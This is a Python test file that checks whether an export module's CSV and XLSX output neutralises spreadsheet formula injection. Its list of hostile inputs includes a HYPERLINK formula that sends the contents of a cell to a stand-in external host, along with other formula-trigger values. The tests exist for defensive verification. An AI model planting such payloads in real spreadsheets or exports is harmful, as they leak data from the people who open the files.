"""Hostile text never becomes a live formula in any export (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from binaumkm.core import exports

HOSTILE = ['=HYPERLINK("http://x.example/?"&D2,"klik")', "+62812", "-1+2", "@SUM(A1)", "\tcmd", "\r=1"]


def test_csv_values_are_prefixed():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for _ in exports.csv_rows([[*HOSTILE, 5, "Batik"]], writer):
        pass
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert all(cell.startswith("'") for cell in row[: len(HOSTILE)])
    assert row[-2:] == ["5", "Batik"]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_cells_are_strings_never_formulas(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x") if write_only else book.active
    exports.append_row(sheet, [*HOSTILE, 5, "Batik"])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())[0]
    for cell, value in zip(cells, HOSTILE, strict=False):
        # (XML reads a carriage return back as a line feed)
        assert cell.data_type == "s" and cell.value == value.replace("\r", "\n") and cell.quotePrefix
    assert cells[-2].value == 5 and cells[-2].data_type == "n"
